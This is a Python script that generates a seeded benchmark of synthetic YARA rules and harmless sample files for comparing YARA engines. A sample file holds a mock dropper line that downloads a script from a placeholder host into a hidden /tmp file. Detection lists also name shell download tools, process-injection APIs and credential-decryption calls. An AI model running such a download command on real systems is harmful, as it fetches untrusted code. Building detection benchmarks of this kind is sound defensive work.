#!/usr/bin/env python3
"""Generates the YARA benchmark rule set and a few sample files, deterministically (seeded).

    gen_rules.py OUT_DIR [--rules N] [--seed S]

Writes OUT_DIR/rules/*.yar (N rules, default 500, in 5 files of N/5) and OUT_DIR/samples/*
(small generated files that some of the rules match: PE files importing VirtualAlloc, a
minimal ELF executable, text in ASCII and UTF-16, a high-entropy blob, a file whose MD5 a rule
names). Every string, byte sequence and file here is made up by this script: no public rule
or sample is copied.

The rules are shaped like real-world ones: text strings with `ascii wide nocase`, hex strings
with wildcards and jumps, a few regular expressions; conditions on the MZ/ELF magic, file size,
`N of ($s*)`, `pe.imports(...)`, `pe.sections`, `elf.type`, rarely `math.entropy` and
`hash.md5`. Nine rules ("Dozor_Bench_M*") are made to match the samples or many system ELF
files, so the match output of two engines can be compared.
"""

import argparse
import hashlib
import os
import random
import struct

SYLLABLES = [
    "ka", "vor", "ine", "tsu", "pd", "mex", "qua", "lor", "zen", "tri", "bal", "dex", "sor",
    "wyn", "fal", "gri", "hop", "jix", "nur", "oct", "pyl", "rax", "sil", "tov", "umb", "vex",
    "yar", "zol", "bru", "cha", "dro", "eph", "fyn", "glo", "hax", "ilk", "jov", "kro",
]
SUFFIXES = [".dll", ".exe", ".sys", ".dat", ".tmp", ".bin", ".so", "", "", "", "", ""]
PREFIXES = ["", "", "", "Global\\", "%TEMP%\\", "/tmp/.", "/var/run/", "SOFTWARE\\", "\\\\.\\pipe\\"]
# Strings common in real binaries; at most one per rule, never enough to match on their own.
COMMON = [
    "GetProcAddress", "LoadLibraryA", "VirtualProtect", "CreateRemoteThread",
    "WriteProcessMemory", "http://", "https://", "cmd.exe", "/bin/sh", "/tmp/",
    "User-Agent:", "Mozilla/5.0", "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "powershell", "/proc/self/exe", "LD_PRELOAD", "crontab", "wget ", "curl ",
]
DLL_APIS = [
    ("kernel32.dll", "VirtualAlloc"), ("kernel32.dll", "CreateRemoteThread"),
    ("kernel32.dll", "WriteProcessMemory"), ("advapi32.dll", "RegSetValueExA"),
    ("advapi32.dll", "OpenSCManagerW"), ("ws2_32.dll", "WSAStartup"),
    ("wininet.dll", "InternetOpenUrlA"), ("ntdll.dll", "NtUnmapViewOfSection"),
    ("user32.dll", "SetWindowsHookExA"), ("crypt32.dll", "CryptUnprotectData"),
]
TLDS = ["top", "xyz", "click", "info", "biz", "online"]


def word(rng, lo=3, hi=5):
    return "".join(rng.choice(SYLLABLES) for _ in range(rng.randint(lo, hi)))


def text_string(rng):
    s = rng.choice(PREFIXES) + word(rng) + rng.choice(SUFFIXES)
    if rng.random() < 0.3:
        s = s[0].upper() + s[1:]
    return s.replace("\\", "\\\\")


def hex_string(rng):
    """At least 4 fixed leading bytes (a good atom), then wildcards and a jump."""
    def fixed(n):
        return " ".join(f"{rng.randint(1, 254):02X}" for _ in range(n))

    parts = [fixed(rng.randint(4, 6))]
    for _ in range(rng.randint(1, 3)):
        r = rng.random()
        if r < 0.4:
            parts.append("??")
        elif r < 0.7:
            lo = rng.randint(1, 4)
            parts.append(f"[{lo}-{lo + rng.randint(2, 8)}]")
        else:
            parts.append(f"( {fixed(2)} | {fixed(2)} )")
        parts.append(fixed(rng.randint(2, 4)))
    return "{ " + " ".join(parts) + " }"


def regex_string(rng):
    forms = [
        lambda: f"/https?:\\/\\/[a-z0-9.-]{{4,30}}\\.{rng.choice(TLDS)}\\/{word(rng, 2, 3)}\\.php/",
        lambda: f"/Global\\\\{word(rng, 2, 2)}[A-Za-z0-9]{{6,10}}/",
        lambda: f"/{word(rng, 2, 3)}_[0-9a-f]{{8,16}}\\.(dll|exe)/ nocase",
        lambda: f"/\\/tmp\\/\\.{word(rng, 2, 3)}[0-9]{{2,4}}/",
    ]
    return rng.choice(forms)()


def meta_block(rng, i, description):
    return (
        "    meta:\n"
        f"        author = \"dozor bench generator\"\n"
        f"        description = \"{description}\"\n"
        f"        date = \"2026-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}\"\n"
        f"        score = {rng.choice([40, 60, 70, 80, 90, 100])}\n"
        f"        id = {i}\n"
    )


def tags(rng):
    pool = ["apt", "crime", "loader", "backdoor", "miner", "webshell", "hacktool", "linux", "windows"]
    return "".join(" " + t for t in rng.sample(pool, rng.randint(0, 2)))


def text_strings(rng, n, with_common=True):
    out = []
    common_at = rng.randrange(n) if with_common and rng.random() < 0.5 else -1
    for k in range(n):
        s = rng.choice(COMMON).replace("\\", "\\\\") if k == common_at else text_string(rng)
        mods = rng.choice(["ascii wide nocase", "ascii wide", "ascii", "wide", "nocase", "fullword ascii"])
        out.append(f"        $s{k + 1} = \"{s}\" {mods}")
    return out


def rule(name, tag_text, meta, strings, condition):
    body = f"rule {name}{(' :' + tag_text) if tag_text else ''} {{\n{meta}"
    if strings:
        body += "    strings:\n" + "\n".join(strings) + "\n"
    return body + f"    condition:\n        {condition}\n}}\n"


def gen_rule(rng, i, md5s):
    name = f"Dozor_Bench_{word(rng, 2, 3).capitalize()}_{i:04d}"
    kind = rng.random()
    if kind < 0.38:  # PE, multi-string
        n = rng.randint(3, 6)
        strings = text_strings(rng, n)
        if rng.random() < 0.3:
            strings.append(f"        $s{n + 1} = {hex_string(rng)}")
            n += 1
        cond = f"uint16(0) == 0x5A4D and filesize < {rng.choice([1, 2, 5, 10])}MB and {rng.randint(2, min(3, n))} of ($s*)"
        return rule(name, tags(rng), meta_block(rng, i, "PE with suspicious strings"), strings, cond)
    if kind < 0.50:  # PE imports
        dll, api = rng.choice(DLL_APIS)
        strings = text_strings(rng, rng.randint(2, 4))
        extra = rng.choice([
            "",
            " and pe.number_of_sections > 4",
            f" and for any s in pe.sections : ( s.name == \".{word(rng, 1, 2)[:6]}\" )",
            " and pe.is_dll()",
        ])
        cond = f"uint16(0) == 0x5A4D and pe.imports(\"{dll}\", \"{api}\"){extra} and any of ($s*)"
        return rule(name, tags(rng), meta_block(rng, i, f"imports {api}"), strings, cond)
    if kind < 0.66:  # ELF
        strings = text_strings(rng, rng.randint(2, 5))
        head = rng.choice([
            "uint32(0) == 0x464C457F and elf.type == elf.ET_EXEC",
            "uint32(0) == 0x464C457F and elf.machine == elf.EM_X86_64",
            "uint32(0) == 0x464C457F and filesize < 3MB",
        ])
        cond = f"{head} and {rng.choice(['any of them', '2 of them', 'all of them'])}"
        return rule(name, " linux", meta_block(rng, i, "ELF implant strings"), strings, cond)
    if kind < 0.86:  # hex with wildcards and jumps
        n = rng.randint(1, 3)
        strings = [f"        $h{k + 1} = {hex_string(rng)}" for k in range(n)]
        cond = rng.choice(["any of them", "all of them", "$h1 in (0..4096)", "#h1 > 2"])
        if cond.startswith("$h1") or cond.startswith("#h1"):
            cond = cond + (" and any of them" if n > 1 else "")
        return rule(name, tags(rng), meta_block(rng, i, "shellcode fragment"), strings, cond)
    if kind < 0.95:  # regex + strings
        strings = [f"        $r1 = {regex_string(rng)}"] + text_strings(rng, rng.randint(1, 2), with_common=False)
        cond = rng.choice(["$r1 and any of ($s*)", "all of them", "$r1 and filesize < 500KB"])
        if cond == "$r1 and filesize < 500KB":
            cond = "$r1 and filesize < 500KB and any of ($s*)"
        return rule(name, tags(rng), meta_block(rng, i, "C2 URL pattern"), strings, cond)
    if kind < 0.975:  # rare: entropy
        strings = text_strings(rng, 2, with_common=False)
        cond = f"uint16(0) == 0x5A4D and math.entropy(0, filesize) > 7.{rng.randint(2, 6)} and any of them"
        return rule(name, tags(rng), meta_block(rng, i, "packed PE"), strings, cond)
    # rare: hash of the whole file (a made-up digest), half guarded by the size
    digest = hashlib.md5(f"dozor-{i}-{rng.random()}".encode()).hexdigest()
    md5s.append(digest)
    cond = f"hash.md5(0, filesize) == \"{digest}\""
    if rng.random() < 0.5:
        cond = f"filesize == {rng.randint(10_000, 900_000)} and {cond}"
    return rule(name, "", meta_block(rng, i, "known sample"), [], cond)


# ---- samples -------------------------------------------------------------------------------


def minimal_pe(imports, payload):
    """A small valid PE32 with one section holding an import table and `payload`."""
    file_align, sect_align, sect_rva, sect_off = 0x200, 0x1000, 0x1000, 0x200
    # Section layout: descriptors, ILTs, IATs, names, hint/names, payload.
    dlls = list(imports.items())
    desc_size = 20 * (len(dlls) + 1)
    blob = bytearray(desc_size)
    ilt_rvas, iat_rvas = [], []
    thunk_lists = []
    for dll, funcs in dlls:
        thunk_lists.append(funcs)
    # Reserve thunk arrays.
    for funcs in thunk_lists:
        ilt_rvas.append(sect_rva + len(blob))
        blob += bytes(4 * (len(funcs) + 1))
    for funcs in thunk_lists:
        iat_rvas.append(sect_rva + len(blob))
        blob += bytes(4 * (len(funcs) + 1))
    name_rvas = []
    for dll, _ in dlls:
        name_rvas.append(sect_rva + len(blob))
        blob += dll.encode() + b"\0"
    for d, (dll, funcs) in enumerate(dlls):
        for f, func in enumerate(funcs):
            if len(blob) % 2:
                blob += b"\0"
            hn = sect_rva + len(blob)
            blob += struct.pack("<H", 0) + func.encode() + b"\0"
            for base in (ilt_rvas[d], iat_rvas[d]):
                off = base - sect_rva + 4 * f
                blob[off:off + 4] = struct.pack("<I", hn)
        struct.pack_into("<IIIII", blob, 20 * d, ilt_rvas[d], 0, 0, name_rvas[d], iat_rvas[d])
    entry = sect_rva + len(blob)
    blob += payload
    raw_size = (len(blob) + file_align - 1) // file_align * file_align
    blob += bytes(raw_size - len(blob))
    virt_size = (len(blob) + sect_align - 1) // sect_align * sect_align

    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0x5F000000, 0, 0, 0xE0, 0x0102)
    opt = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
        0x10B, 14, 0, raw_size, 0, 0, entry, sect_rva, sect_rva, 0x400000,
        sect_align, file_align, 6, 0, 0, 0, 6, 0, 0, sect_rva + virt_size, sect_off, 0,
        3, 0x8140, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16,
    )
    dirs = bytearray(16 * 8)
    struct.pack_into("<II", dirs, 8, sect_rva, desc_size)  # import table
    section = struct.pack(
        "<8sIIIIIIHHI", b".text", virt_size, sect_rva, raw_size, sect_off, 0, 0, 0, 0, 0x60000020
    )
    header = bytes(dos) + b"PE\0\0" + coff + opt + bytes(dirs) + section
    header += bytes(sect_off - len(header))
    return header + bytes(blob)


def minimal_elf_exec(payload):
    """A 64-bit little-endian x86-64 ET_EXEC header (no program headers) plus `payload`."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    hdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 0, 0, 0, 64, 0, 0, 64, 0, 0)
    return hdr + payload


def write_samples(out, rng):
    os.makedirs(out, exist_ok=True)
    files = {}
    for k in range(4):
        payload = b"\x55\x8b\xec" + rng.randbytes(200 + 100 * k) + b"\xc9\xc3"
        files[f"pe_virtualalloc_{k}.exe"] = minimal_pe(
            {"kernel32.dll": ["VirtualAlloc", "GetProcAddress", "LoadLibraryA"], "user32.dll": ["MessageBoxA"]},
            payload,
        )
    files["pe_plain.exe"] = minimal_pe({"kernel32.dll": ["ExitProcess"]}, b"\x90" * 64)
    files["elf_exec.bin"] = minimal_elf_exec(rng.randbytes(512))
    files["marker_ascii.txt"] = b"notes\nthe DOZOR-Bench-Marker is here\n" * 3
    files["marker_wide.txt"] = "x Dozor-bench-marker y\n".encode("utf-16-le")
    files["c2_script.txt"] = (
        b"#!/bin/sh\nwget -q https://cdn.example-update.net/dozor-bench/gate.php -O /tmp/.x\n"
    )
    files["hexjump.bin"] = rng.randbytes(100) + b"DOZR\x01\x02" + b"abc" + b"BENCH" + rng.randbytes(100)
    files["random.bin"] = rng.randbytes(256 * 1024)
    files["known.bin"] = b"dozor benchmark known sample\n" + rng.randbytes(4096)
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    return hashlib.md5(files["known.bin"]).hexdigest()


MATCHING = """
rule Dozor_Bench_M1_Marker : test {
    meta:
        description = "generated marker text, ASCII or UTF-16"
    strings:
        $a = "dozor-bench-marker" ascii wide nocase
    condition:
        $a
}

rule Dozor_Bench_M2_PE_VirtualAlloc : test windows {
    meta:
        description = "generated PE importing VirtualAlloc"
    condition:
        uint16(0) == 0x5A4D and filesize < 5MB and pe.imports("kernel32.dll", "VirtualAlloc")
}

rule Dozor_Bench_M3_ELF_Exec : test linux {
    condition:
        uint32(0) == 0x464C457F and elf.type == elf.ET_EXEC
}

rule Dozor_Bench_M4_Known_MD5 : test {
    condition:
        hash.md5(0, filesize) == "KNOWN_MD5"
}

rule Dozor_Bench_M5_High_Entropy : test {
    condition:
        filesize < 1MB and filesize > 1KB and math.entropy(0, filesize) > 7.9
}

rule Dozor_Bench_M6_Glibc234 : test linux {
    strings:
        $a = "GLIBC_2.34" ascii
    condition:
        uint32(0) == 0x464C457F and $a
}

rule Dozor_Bench_M7_URL : test {
    strings:
        $r = /https?:\\/\\/[a-z0-9.-]{4,40}\\/dozor-bench\\/[a-z]{3,8}\\.php/
    condition:
        $r
}

rule Dozor_Bench_M8_Hex_Jump : test {
    strings:
        $h = { 44 4F 5A 52 ?? ?? [2-8] 42 45 4E 43 48 }
    condition:
        $h
}

rule Dozor_Bench_M9_Shell_Script : test linux {
    strings:
        $sh = "#!/bin/sh"
        $w = "wget " ascii
    condition:
        $sh at 0 and $w and filesize < 100KB
}
"""


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--rules", type=int, default=500)
    ap.add_argument("--seed", type=int, default=6)
    args = ap.parse_args()
    rng = random.Random(args.seed)

    known_md5 = write_samples(os.path.join(args.out, "samples"), random.Random(args.seed + 1))
    rules_dir = os.path.join(args.out, "rules")
    os.makedirs(rules_dir, exist_ok=True)
    imports = 'import "pe"\nimport "elf"\nimport "math"\nimport "hash"\n\n'
    md5s = []
    generated = [gen_rule(rng, i, md5s) for i in range(args.rules - MATCHING.count("\nrule "))]
    n_files = 5
    per = (len(generated) + n_files - 1) // n_files
    for f in range(n_files):
        chunk = generated[f * per:(f + 1) * per]
        text = imports
        if f == 0:
            text += MATCHING.replace("KNOWN_MD5", known_md5) + "\n"
        text += "\n".join(chunk)
        with open(os.path.join(rules_dir, f"bench_{f}.yar"), "w") as fh:
            fh.write(text)
    total = len(generated) + MATCHING.count("\nrule ")
    print(f"{total} rules in {n_files} files under {rules_dir}; samples in {args.out}/samples")


if __name__ == "__main__":
    main()
